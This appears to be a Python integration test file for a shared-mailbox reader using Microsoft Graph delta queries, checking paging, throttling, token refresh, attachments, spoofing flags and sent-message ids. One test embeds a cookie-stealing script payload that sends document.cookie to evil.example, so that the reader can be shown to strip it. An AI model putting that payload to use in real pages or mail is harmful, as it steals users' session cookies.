"""Reading the shared mailbox's Inbox through Graph delta queries (#16), with the real msal and
httpx against the fake Graph mail server over TLS: paging, the delta link read again (one
request when nothing is new), 429 Retry-After, 401 and a fresh token, 410 and a fresh delta,
attachments under and over the limit, HTML with scripts, `@removed` entries; and the ids Graph
gives the follow-ups we send, stored so a reply can point back at them."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import pytest

from bootstrap import bootstrap
from config import load_settings
from domain.models import Notification
from domain.roles import Actor, Role
from integrations.errors import GraphThrottled
from integrations.mail.graph_inbox import GraphInbox
from integrations.microsoft.tokens import AppTokens
from jobs.mail.delivery import deliver as send_email
from tests.conftest import TODAY
from tests.fakes.graph_mail import FakeGraphMail
from tests.integration.test_email_sending import approved_draft

MAILBOX = "repairs@genthrust.example"


@pytest.fixture
def graph(tmp_path) -> Iterator[FakeGraphMail]:
    fake = FakeGraphMail(tmp_path / "graph").start()
    yield fake
    fake.stop()


@pytest.fixture
def make_inbox(graph, tmp_path) -> Iterator:
    inboxes: list[GraphInbox] = []

    def make(**kwargs) -> GraphInbox:
        settings = load_settings(var_dir=tmp_path / "var", redis_url="", **graph.settings())
        kwargs.setdefault("max_attachment_bytes", 10_000)
        inbox = GraphInbox(settings, AppTokens(settings), **kwargs)
        inboxes.append(inbox)
        return inbox

    yield make
    for inbox in inboxes:
        inbox.close()


def delta_requests(graph: FakeGraphMail) -> int:
    return graph.requests_to("/mailFolders/inbox/messages/delta")


def test_a_first_poll_follows_three_pages_and_the_delta_link_reads_only_what_is_new(
    graph, make_inbox
):
    for n in range(120):
        graph.deliver(subject=f"RE: RO #G{38000 + n}", body=f"Reply {n}")
    inbox = make_inbox(batch=500)
    first = inbox.poll(None)
    assert len(first.messages) == 120 and first.requests == 3  # 50 + 50 + 20
    assert {m.email.subject for m in first.messages} == {
        f"RE: RO #G{38000 + n}" for n in range(120)
    }
    assert delta_requests(graph) == 3
    assert "$deltatoken=" in first.cursor
    assert all('IdType="ImmutableId"' in p for p in graph.prefer_headers)  # ids survive moves
    assert all("odata.maxpagesize=50" in p for p in graph.prefer_headers)

    again = inbox.poll(first.cursor)
    assert again.messages == [] and again.requests == 1  # nothing new: ONE request
    assert delta_requests(graph) == 4

    graph.deliver(subject="RE: RO #G38462", body="Shipped today")
    graph.deliver(subject="RE: RO #G38470", body="In work")
    later = inbox.poll(again.cursor)
    assert [m.email.subject for m in later.messages] == ["RE: RO #G38462", "RE: RO #G38470"]
    assert later.requests == 1
    assert inbox.poll(later.cursor).messages == []


def test_a_long_round_is_read_in_batches_that_resume_where_they_stopped(graph, make_inbox):
    for n in range(120):
        graph.deliver(subject=f"reply {n}")
    inbox = make_inbox(page_size=20, batch=50)
    seen, cursor, batches = [], None, []
    for _ in range(4):
        polled = inbox.poll(cursor)
        batches.append(len(polled.messages))
        seen += [m.email.subject for m in polled.messages]
        cursor = polled.cursor
    assert batches == [60, 60, 0, 0]  # whole pages, stopping once 50 are in hand
    assert sorted(seen) == sorted(f"reply {n}" for n in range(120))  # none twice, none lost
    assert "$deltatoken=" in cursor
    assert inbox.batch == 50  # what the polling actor reads to poll again at once


def test_a_message_becomes_a_received_email(graph, make_inbox):
    when = datetime(2026, 12, 2, 9, 12, tzinfo=UTC)
    graph_id = graph.deliver(
        from_address="Repairs@Avtech.Example",
        from_name="Avtech Hydraulics",
        subject="RE: Status Update for RO #G38462",
        body="Shipped today, UPS 1Z999AA10123456784.\n\nOn Mon, Dec 1 Repairs wrote:\n> Any news?",
        unique_body="Shipped today, UPS 1Z999AA10123456784.\n\n--\nBob, Avtech\n555 0100",
        in_reply_to="<SENT1@GT1PR01MB.prod.outlook.example>",
        references=["<OLD0@genthrust.example>", "<SENT1@GT1PR01MB.prod.outlook.example>"],
        conversation_id="AAQkConvABC",
        internet_message_id="<reply-1@avtech.example>",
        received=when,
    )
    [incoming] = make_inbox().poll(None).messages
    email = incoming.email
    assert incoming.provider_id == graph_id and incoming.raw is None
    assert email.internet_message_id == "<reply-1@avtech.example>"
    assert email.from_address == "repairs@avtech.example"
    assert email.from_name == "Avtech Hydraulics"
    assert email.received_at == datetime(2026, 12, 2, 9, 12)  # naive UTC
    assert email.text == "Shipped today, UPS 1Z999AA10123456784."  # signature cut too
    assert "Any news?" in email.full_text
    assert email.in_reply_to == "<SENT1@GT1PR01MB.prod.outlook.example>"
    assert email.references == (
        "<OLD0@genthrust.example>",
        "<SENT1@GT1PR01MB.prod.outlook.example>",
    )
    assert email.conversation_id == "AAQkConvABC"
    assert email.flags == () and email.attachments == ()


def test_without_a_unique_body_the_quoted_mail_is_cut_here(graph, make_inbox):
    graph.deliver(
        body=(
            "Quote attached, $2,750.00.\n\nFrom: GenThrust Repairs <repairs@genthrust.example>\n"
            "Sent: Monday, December 1, 2026 8:00 AM\nSubject: RO G38462\n\nShipped yet? RO G38462"
        )
    )
    [incoming] = make_inbox().poll(None).messages
    assert incoming.email.text == "Quote attached, $2,750.00."
    assert "Shipped yet?" in incoming.email.full_text


def test_spoofed_senders_are_flagged_and_drafts_and_our_own_mail_skipped(graph, make_inbox):
    graph.deliver(subject="on behalf", sender="mallory@evil.example")
    graph.deliver(
        subject="dmarc",
        headers=[("Authentication-Results", "spf=pass; dkim=none; dmarc=fail action=none")],
    )
    graph.deliver(
        subject="forwarded",  # SPF fails for forwarded mail; DMARC passing says it is genuine
        headers=[("Authentication-Results", "spf=fail; dkim=pass; dmarc=pass; compauth=pass")],
    )
    graph.deliver(subject="reply-to", reply_to="billing@elsewhere.example")
    graph.deliver(subject="out of office", headers=[("Auto-Submitted", "auto-replied")])
    graph.deliver(subject="Undeliverable: RO G38462", from_address="postmaster@avtech.example")
    graph.deliver(subject="draft", is_draft=True)
    graph.deliver(subject="ours", from_address=MAILBOX.upper())
    found = {m.email.subject: m.email.flags for m in make_inbox().poll(None).messages}
    assert found == {
        "on behalf": ("spoofed_sender",),
        "dmarc": ("spoofed_sender",),
        "forwarded": (),
        "reply-to": ("reply_to_differs",),
        "out of office": ("auto_reply",),
        "Undeliverable: RO G38462": ("auto_reply",),
    }


def test_a_short_retry_after_is_waited_out(graph, make_inbox):
    graph.deliver()
    waits: list[float] = []
    inbox = make_inbox(sleep=waits.append)
    graph.throttle(retry_after=2)
    polled = inbox.poll(None)
    assert waits == [2.0]
    assert len(polled.messages) == 1 and polled.requests == 2


def test_a_long_retry_after_goes_back_to_the_actor_with_the_delay(graph, make_inbox):
    inbox = make_inbox(sleep=lambda s: pytest.fail("must not sleep 120 s in a worker"))
    cursor = inbox.poll(None).cursor
    graph.deliver()
    graph.throttle(retry_after=120)
    with pytest.raises(GraphThrottled) as raised:
        inbox.poll(cursor)
    assert raised.value.retry_after_s == 120
    assert len(inbox.poll(cursor).messages) == 1  # the cursor was not moved: nothing lost


def test_a_revoked_token_is_replaced_once(graph, make_inbox):
    inbox = make_inbox()
    cursor = inbox.poll(None).cursor
    assert graph.token_requests == 1
    graph.revoke_tokens()
    graph.deliver()
    polled = inbox.poll(cursor)
    assert len(polled.messages) == 1
    assert polled.requests == 2  # the 401, then the same request with a new token
    assert graph.token_requests == 2


def test_a_forgotten_delta_link_starts_a_fresh_delta(graph, make_inbox):
    graph.deliver(subject="old")
    inbox = make_inbox()
    cursor = inbox.poll(None).cursor
    graph.expire_delta_links()
    graph.deliver(subject="new")
    polled = inbox.poll(cursor)
    # read afresh: the old message again (ingestion knows it by its id) and the new one
    assert sorted(m.email.subject for m in polled.messages) == ["new", "old"]
    assert polled.requests == 2  # the 410, then the fresh delta query
    assert inbox.poll(polled.cursor).messages == []


def test_the_first_poll_reads_only_recent_history(graph, make_inbox):
    graph.deliver(subject="last year", received=datetime.now(UTC) - timedelta(days=400))
    graph.deliver(subject="this week", received=datetime.now(UTC) - timedelta(days=3))
    polled = make_inbox(history_days=14).poll(None)
    assert [m.email.subject for m in polled.messages] == ["this week"]


def test_attachments_small_fetched_oversize_flagged_not_fetched(graph, make_inbox):
    invoice = b"%PDF-1.7 invoice " + b"x" * 2_000
    big = b"%PDF-1.7 " + b"y" * 50_000
    graph_id = graph.deliver(
        attachments=[
            ("invoice.pdf", "application/pdf", invoice),
            ("scan.pdf", "application/pdf", big),
            {
                "@odata.type": "#microsoft.graph.itemAttachment",
                "name": "Fwd: quote",
                "contentType": None,
                "size": 900,
            },
        ]
    )
    polled = make_inbox(max_attachment_bytes=10_000).poll(None)
    [incoming] = polled.messages
    by_name = {a.name: a for a in incoming.email.attachments}
    assert by_name["invoice.pdf"].content == invoice
    assert by_name["invoice.pdf"].media_type == "application/pdf"
    assert by_name["scan.pdf"].content is None and by_name["scan.pdf"].size == len(big)
    assert by_name["Fwd: quote"].content is None
    assert set(incoming.email.flags) == {"oversize_attachment", "skipped_attachment"}
    big_id = next(a["id"] for a in graph.attachments[graph_id] if a["name"] == "scan.pdf")
    assert graph.requests_to(big_id) == 0  # never downloaded
    assert graph.requests_to("/attachments") == 2  # the list, then the one small file
    assert polled.requests == 3


def test_an_attachment_deleted_meanwhile_is_flagged_not_fatal(graph, make_inbox):
    gone = graph.deliver(attachments=[("invoice.pdf", "application/pdf", b"%PDF-1.7 x")])
    graph.attachments.pop(gone)  # removed between the delta page and the attachment request
    graph.deliver(subject="next", body="In work")
    polled = make_inbox().poll(None)
    assert [m.email.flags for m in polled.messages] == [("attachment_unavailable",), ()]


def test_html_with_a_script_never_reaches_the_text(graph, make_inbox):
    html = (
        "<html><head><style>p{color:red}</style></head><body><p>Approved, in work.</p>"
        "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
        "<p>ETA 12/15</p></body></html>"
    )
    graph.deliver(subject="as text", body=html, content_type="html")
    [by_graph] = make_inbox().poll(None).messages  # Graph converts to text as we ask
    assert "Approved, in work." in by_graph.email.text and "ETA 12/15" in by_graph.email.text
    assert "evil" not in by_graph.email.full_text and "<" not in by_graph.email.full_text

    graph.honour_text_preference = False  # Graph answered HTML anyway: we convert it
    graph.deliver(subject="as html", body=html, content_type="html", unique_body=html)
    [ours] = make_inbox().poll(None).messages[1:]
    assert ours.email.text == "Approved, in work.\n\nETA 12/15"
    assert "evil" not in ours.email.full_text and "color" not in ours.email.full_text
    assert ours.email.flags == ("html_script",)


def test_removed_entries_are_skipped(graph, make_inbox):
    graph.ignore_change_type = True  # Graph sends `@removed` even though we asked for created
    gone = graph.deliver(subject="deleted later")
    inbox = make_inbox()
    cursor = inbox.poll(None).cursor
    graph.remove(gone)
    graph.deliver(subject="new")
    polled = inbox.poll(cursor)
    assert [m.email.subject for m in polled.messages] == ["new"]


def test_a_link_to_another_host_is_never_followed_with_our_token(graph, make_inbox):
    inbox = make_inbox()
    with pytest.raises(Exception, match="somewhere other than Graph"):
        inbox.poll("https://evil.example/v1.0/users/x/mailFolders/inbox/messages/delta")
    assert graph.requests == []


# ---- the ids of what we send --------------------------------------------------------------------
@pytest.fixture
def make_app(db_url, tmp_path) -> Iterator:
    apps = []

    def make(**overrides):
        settings = load_settings(
            database_url=db_url, var_dir=tmp_path / "var", redis_url="", **overrides
        )
        app = bootstrap(settings, today=lambda: TODAY)
        apps.append(app)
        return app

    yield make
    for app in apps:
        app.engine.dispose()


def sent_row(app, notification_id: str) -> Notification:
    with app.session() as s:
        return s.get(Notification, notification_id)


@pytest.mark.dialect  # record_sent keeps the remembered id (a COALESCE in the UPDATE)
def test_the_sent_drafts_ids_are_stored_and_a_reply_points_back_at_them(
    make_app, graph, make_inbox
):
    app = make_app(**graph.settings())
    draft_id = approved_draft(app)
    assert send_email(app, draft_id) == "sent"
    [mail] = graph.deliveries
    row = sent_row(app, draft_id)
    assert row.message_id == mail["internetMessageId"]  # Graph's, not our own Message-ID
    assert row.message_id.endswith("prod.outlook.example>")
    assert row.conversation_id == mail["conversationId"]

    graph.deliver(
        subject="RE: [GenThrust Follow-Up] Follow-up: RO# G38462",
        body="Shipped today",
        in_reply_to=mail["internetMessageId"],
        references=[mail["internetMessageId"]],
        conversation_id=mail["conversationId"],
    )
    [reply] = make_inbox().poll(None).messages
    assert reply.email.in_reply_to == row.message_id
    assert reply.email.conversation_id == row.conversation_id


def test_a_draft_found_again_after_a_lost_reply_keeps_its_ids(make_app, graph):
    app = make_app(**graph.settings())
    draft_id = approved_draft(app)
    graph.lose_reply_after("/messages")  # Graph made the draft, its 201 never arrived
    with pytest.raises(Exception, match="503"):
        send_email(app, draft_id)
    assert send_email(app, draft_id) == "sent"
    [mail] = graph.deliveries
    row = sent_row(app, draft_id)
    assert (row.message_id, row.conversation_id) == (
        mail["internetMessageId"],
        mail["conversationId"],
    )


def test_sendmail_gives_no_ids_and_the_outbox_keeps_its_own(make_app, graph):
    app = make_app(**graph.settings(), graph_mail_mode="sendmail")
    draft_id = approved_draft(app)
    assert send_email(app, draft_id) == "sent"
    row = sent_row(app, draft_id)
    # sendMail answers 202 with no body: replies then match by RO number and sender only
    assert row.message_id is None and row.conversation_id is None

    outbox = make_app()
    other = approved_draft(outbox, "38470")
    assert send_email(outbox, other) == "sent"
    eml = (outbox.settings.outbox_dir / f"{other}.eml").read_bytes()
    assert f"Message-ID: {sent_row(outbox, other).message_id}".encode() in eml


def test_a_requeued_email_forgets_the_ids_of_the_failed_send(make_app, graph):
    app = make_app(**graph.settings())
    draft_id = approved_draft(app)
    assert send_email(app, draft_id) == "sent"
    with app.session() as s:  # as if it had failed after the draft was made
        row = s.get(Notification, draft_id)
        row.state = "FAILED"
        s.commit()
    app.notifications.requeue(Actor("ed@genthrust.test", Role.EDITOR, "chat"), draft_id)
    row = sent_row(app, draft_id)
    assert row.message_id is None and row.conversation_id is None


def test_the_benchmark_hook_counts_one_request_for_a_quiet_inbox():
    from bench.graph_inbox import requests_per_empty_poll

    assert requests_per_empty_poll() == 1
